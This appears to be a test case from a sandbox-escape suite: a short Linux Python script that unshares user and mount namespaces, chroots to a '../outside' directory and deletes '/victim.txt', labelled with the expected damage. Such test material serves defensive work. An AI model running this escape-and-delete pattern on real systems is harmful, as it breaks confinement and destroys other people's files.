# The same as the master of a world of its own, which every user may have.
# damage: deleted
# needs: linux, python>=3.12, user-namespaces
import os

os.unshare(os.CLONE_NEWUSER | os.CLONE_NEWNS)
os.chroot("../outside")
os.unlink("/victim.txt")
